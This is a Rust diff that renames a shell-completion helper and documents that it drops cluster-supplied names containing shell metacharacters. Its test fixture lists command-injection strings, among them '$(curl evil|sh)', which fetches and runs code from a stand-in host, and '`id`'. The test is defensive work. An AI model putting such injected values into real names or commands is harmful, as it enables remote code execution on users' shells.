@@ -49,7 +49,7 @@ pub(super) fn pods_and_claims(typed: &OsStr) -> Vec<CompletionCandidate> {
         let (client, namespace) = cluster.connect().await?;
         Ok(explainable(&client, &namespace).await)
     });
-    offered(typed, names)
+    safe_fitting(typed, names)
 }
 
 async fn explainable(client: &Client, namespace: &str) -> BTreeSet<String> {
@@ -82,12 +82,12 @@ fn of_devices(typed: &OsStr, names: impl Fn(&DeviceRow) -> Vec<String>) -> Vec<C
         };
         Ok(table.devices.iter().flat_map(&names).collect())
     });
-    offered(typed, found)
+    safe_fitting(typed, found)
 }
 
-/// Returns the names from the cluster that begin with the typed text. A shell could run others as a command: companions and other drivers
-/// choose the names of devices and kinds.
-fn offered(typed: &OsStr, mut names: BTreeSet<String>) -> Vec<CompletionCandidate> {
+/// Returns the names that begin with the typed text, without those that contain shell metacharacters: other drivers choose the names of
+/// devices, and a shell could run them.
+fn safe_fitting(typed: &OsStr, mut names: BTreeSet<String>) -> Vec<CompletionCandidate> {
     let is_harmless = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '-');
     names.retain(|name| name.chars().all(is_harmless));
     fitting(typed, names)
@@ -122,7 +122,7 @@ mod tests {
     #[test]
     fn names_with_characters_of_a_shell_are_not_offered() {
         let names = ["node-a/cam_1.x", "$(curl evil|sh)", "a\nb", "a b", "`id`"];
-        let candidates = offered(OsStr::new(""), names.map(str::to_owned).into());
+        let candidates = safe_fitting(OsStr::new(""), names.map(str::to_owned).into());
         let values: Vec<&OsStr> = candidates.iter().map(CompletionCandidate::get_value).collect();
         assert_eq!(values, ["node-a/cam_1.x"]);
     }
